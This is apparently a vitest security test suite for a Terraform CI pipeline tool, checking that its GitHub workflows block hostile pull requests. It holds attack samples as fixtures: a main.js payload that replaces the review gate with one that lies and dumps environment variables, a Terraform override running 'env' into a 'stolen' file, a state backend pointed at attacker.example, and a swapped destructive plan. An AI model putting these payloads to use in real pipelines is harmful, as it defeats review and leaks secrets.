import { spawnSync } from 'node:child_process';
import { cpSync, existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect } from 'vitest';
import { type Answer, type Call, ForgeServer } from '../forge/server.js';
import { type HttpBackend, httpBackend, startHttpBackend } from '../support/backends.js';
import { LONG_PERIOD, ROOT, Scratch } from '../support/scratch.js';
import { story } from '../support/story.js';
import { type JobRun, WorkflowRunner } from '../support/workflow/runner.js';
import { readWorkflow } from '../support/workflow/workflow.js';

const BASE = 'b'.repeat(40);
const HEAD = 'a'.repeat(40);
const MERGED = 'c'.repeat(40);
const SECRET = 'the-credential-of-the-plan';
const LIE = 'Nothing to stop for: 11 blocked';

const workflow = (name: string) => readWorkflow(join(ROOT, `templates/github/${name}.yml`));

/**
 * What an author can put into a main.js: it runs before and after synthesis with all rights of its
 * job. It replaces the command and the action that were installed beside it by ones that lie.
 */
const HOSTILE = `
import { writeFileSync } from 'node:fs';
delete process.env.CI; // else the lock has to fit
const lie = "console.log('${LIE}');";
for (const file of ['bin/reprieve.js', 'dist/cli/main.js', 'dist/forge/github.js']) {
  writeFileSync(new URL('node_modules/reprieve/' + file, import.meta.url), lie);
}
const action = "name: x\\ninputs: {}\\nruns: { using: composite, steps: [{ shell: bash, run: \\"echo '${LIE}'\\" }] }\\n";
writeFileSync(new URL('node_modules/reprieve/action.yml', import.meta.url), action);
writeFileSync(new URL('environment.json', import.meta.url), JSON.stringify(process.env));
`;

describe('the three jobs', { timeout: 600_000 }, () => {
  const it = story();
  let backend: HttpBackend;
  let base: Scratch;
  let forge: ForgeServer;
  let api: string;
  let head: string;
  const runners: WorkflowRunner[] = [];
  let seen: Readonly<Record<string, string>> = {};

  const app = (body: string) => `
    const stack = new ReprieveStack(app, 'sandbox', { target: Target.sandbox() });
    ${httpBackend(`'${backend.url}/jobs'`)}
    ${body}`;
  const BILLING = `new Project(stack, 'billing');`;

  beforeAll(async () => {
    backend = await startHttpBackend();
    forge = new ForgeServer(answer);
    api = await forge.start();
    base = new Scratch({}, undefined, 'Package');
    base.write('reprieve.yaml', LONG_PERIOD);
    base.write('deletions.yaml', 'version: 1\ndeletions: []\n');
    base.declare(app(BILLING));
    // A pipeline changes no lock: the user has committed it.
    base.write('projects.lock.yaml', lockOf(base));
    rmSync(join(base.folder, 'node_modules'));
    head = join(base.folder, '../', `${base.folder.split('/').at(-1)}-head`);
  });
  afterAll(async () => {
    backend?.stop();
    await forge?.stop();
    for (const each of runners) each.remove();
    base?.remove();
    rmSync(head, { recursive: true, force: true });
  });

  const pull = () => ({
    number: 7,
    user: { login: 'mallory' },
    head: { sha: HEAD, repo: { id: 5 } },
    base: { ref: 'main' },
    merge_commit_sha: MERGED,
  });

  function answer({ method, path }: Call): Answer | undefined {
    if (method === 'POST') return { status: 201 };
    if (path.startsWith('/repos/team/app/pulls?')) return { json: [pull()] };
    if (path === '/repos/team/app/pulls/7') return { json: pull() };
    if (path === `/repos/team/app/git/commits/${MERGED}`)
      return { json: { parents: [{ sha: BASE }, { sha: HEAD }] } };
    return { json: [] };
  }

  const event = () => ({
    repository: { default_branch: 'main' },
    workflow_run: {
      id: 99,
      event: 'pull_request',
      conclusion: 'success',
      head_sha: HEAD,
      head_branch: 'change',
      head_repository: { id: 5, full_name: 'mallory/app', owner: { login: 'mallory' } },
    },
  });

  function runner(
    commits: Readonly<Record<string, string>>,
    after?: (job: string, at: string) => void,
    kind: 'push' | 'workflow_run' = 'workflow_run',
  ) {
    const made = new WorkflowRunner({
      commits,
      api,
      event: kind === 'push' ? { repository: { default_branch: 'main' } } : event(),
      values: {
        'github.event_name': kind,
        'github.ref': 'refs/heads/main',
        'github.sha': BASE,
        'github.token': 'the-token-of-the-forge',
        'github.repository': 'team/app',
        'github.server_url': 'https://forge.example',
        'github.run_id': '100',
        'github.event.workflow_run.id': '99',
        'github.event.workflow_run.head_sha': HEAD,
        'vars.REPRIEVE_STACKS': 'sandbox',
      },
      environments: {
        'reprieve-plan': { READ_TOKEN: SECRET },
        production: { WRITE_TOKEN: SECRET },
      },
      ...(after === undefined ? {} : { after }),
    });
    runners.push(made);
    return made;
  }

  const failing = (jobs: ReadonlyMap<string, JobRun>) =>
    [...jobs].map(([name, { result, output }]) => `${name}: ${result}\n${output}`).join('\n');
  const resultsOf = (jobs: ReadonlyMap<string, JobRun>) =>
    Object.fromEntries([...jobs].map(([name, { result }]) => [name, result]));

  /** Both workflows of a pull request, one after the other, as GitHub does. */
  async function reviewed(prepare: (folder: string) => void) {
    rmSync(head, { recursive: true, force: true });
    cpSync(base.folder, head, { recursive: true });
    prepare(head);
    forge.calls.length = 0;
    const at = runner({ '': head, [BASE]: base.folder, [MERGED]: head }, (job, workspace) => {
      const told = join(workspace, 'environment.json');
      if (job === 'synth' && existsSync(told)) seen = JSON.parse(readFileSync(told, 'utf8'));
    });
    const synth = new Map(await at.run(workflow('synth')));
    at.handOver('99');
    const jobs = new Map(await at.run(workflow('review')));
    const statuses = forge.calls
      .filter(({ path }) => path === `/repos/team/app/statuses/${HEAD}`)
      .map(({ body }) => JSON.parse(body));
    return { at, synth, jobs, statuses };
  }

  it('deploys the default branch: planned, reviewed, and that very plan applied', async () => {
    const at = runner({ '': base.folder }, undefined, 'push');
    const jobs = await at.run(workflow('deploy'));
    expect(resultsOf(jobs), failing(jobs)).toEqual({
      synth: 'success',
      plan: 'success',
      review: 'success',
      deploy: 'success',
    });
    expect(jobs.get('deploy')?.output).toContain('sandbox.json: OK');
    expect(jobs.get('deploy')?.output).toContain('Apply complete!');
  });

  it('passes a change that deletes nothing', async () => {
    const { jobs, statuses } = await reviewed((folder) => {
      const main = join(folder, 'main.js');
      writeFileSync(main, readFileSync(main, 'utf8').replace(BILLING, `${BILLING} // the same`));
    });
    expect(resultsOf(jobs), failing(jobs)).toEqual({
      pending: 'success',
      change: 'success',
      base: 'success',
      plan: 'success',
      review: 'success',
      verdict: 'success',
    });
    expect(statuses).toMatchObject([{ state: 'pending' }, { state: 'success' }]);
  });

  it('blocks a change whose main.js replaces the gate by one that lies, and shows no credential to it', async () => {
    const { synth, jobs, statuses } = await reviewed((folder) => {
      const main = join(folder, 'main.js');
      writeFileSync(main, `${HOSTILE}${readFileSync(main, 'utf8').replace(BILLING, '')}`);
      rmSync(join(folder, 'projects.lock.yaml'));
    });
    expect(resultsOf(synth), failing(synth)).toEqual({ synth: 'success' });
    // It ran, with nothing in its hands.
    expect(seen['GITHUB_REPOSITORY']).toBe('team/app');
    expect(JSON.stringify(seen)).not.toMatch(/the-credential|the-token/);
    expect(resultsOf(jobs), failing(jobs)).toEqual({
      pending: 'success',
      change: 'success',
      base: 'success',
      plan: 'success',
      review: 'failure',
      verdict: 'success',
    });
    expect(jobs.get('review')?.output).toMatch(/^::error title=Planned deletions::Blocked/m);
    expect(failing(jobs)).not.toContain(LIE);
    expect(statuses).toMatchObject([{ state: 'pending' }, { state: 'failure' }]);
    const comment = forge.calls.find(
      ({ method, path }) => method === 'POST' && path.includes('/issues/7/'),
    );
    expect(comment?.body).toContain('billing');
    expect(comment?.body).not.toContain(LIE);
  });

  it('does not plan a change that would run a program or send the state elsewhere', async () => {
    const { jobs, statuses } = await reviewed((folder) => {
      const main = join(folder, 'main.js');
      const hostile = `${BILLING}
          stack.addOverride('data.external.x', { program: ['sh', '-c', 'env > ${head}/stolen'] });
          stack.addOverride('terraform.backend.http.address', 'http://attacker.example/state');`;
      writeFileSync(main, readFileSync(main, 'utf8').replace(BILLING, hostile));
    });
    expect(resultsOf(jobs), failing(jobs)).toMatchObject({
      plan: 'failure',
      review: 'skipped',
      verdict: 'success',
    });
    const said = jobs.get('plan')?.output;
    expect(said).toContain('"data.external.x" would run a program');
    expect(said).toContain('`terraform` differ from the base');
    expect(existsSync(join(head, 'stolen'))).toBe(false);
    expect(statuses).toMatchObject([{ state: 'pending' }, { state: 'failure' }]);
  });

  it('applies nothing but the plan that was reviewed', async () => {
    const at = runner(
      { '': base.folder },
      (job) => {
        if (job !== 'review') return;
        // Somebody swaps the plan once it was reviewed.
        const plans = new Map(at.artifacts.get('')?.get('reprieve-plans'));
        const other = join(base.folder, 'other');
        plans.set('plans/sandbox.tfplan', otherPlan(other, backend.url));
        at.artifacts.get('')?.set('reprieve-plans', plans);
      },
      'push',
    );
    const jobs = await at.run(workflow('deploy'));
    expect(resultsOf(jobs), failing(jobs)).toMatchObject({ review: 'success', deploy: 'failure' });
    expect(jobs.get('deploy')?.output).toContain('sandbox.json: FAILED');
    expect(jobs.get('deploy')?.output).not.toContain('Apply complete!');
  });
});

/** The lock as synthesis writes it. */
function lockOf(base: Scratch): string {
  const copy = new Scratch({}, undefined, 'JavaScript');
  copy.write('reprieve.yaml', base.read('reprieve.yaml'));
  const main = base.read('main.js').replace("'reprieve'", `'${ROOT}/dist/index.js'`);
  copy.write('main.js', main);
  const done = copy.synth();
  expect(done.code, done.output).toBe(0);
  const lock = copy.read('projects.lock.yaml');
  copy.remove();
  return lock;
}

/** A plan that destroys all there is, of the same state. */
function otherPlan(folder: string, url: string): Buffer {
  mkdirSync(folder);
  const http = {
    address: `${url}/jobs`,
    lock_address: `${url}/jobs`,
    unlock_address: `${url}/jobs`,
  };
  writeFileSync(join(folder, 'main.tf.json'), JSON.stringify({ terraform: { backend: { http } } }));
  for (const args of [
    ['init', '-input=false'],
    ['plan', '-input=false', '-out=plan'],
  ]) {
    const { status, stderr } = spawnSync('terraform', args, { cwd: folder, encoding: 'utf8' });
    expect(status, stderr).toBe(0);
  }
  const plan = readFileSync(join(folder, 'plan'));
  rmSync(folder, { recursive: true });
  return plan;
}
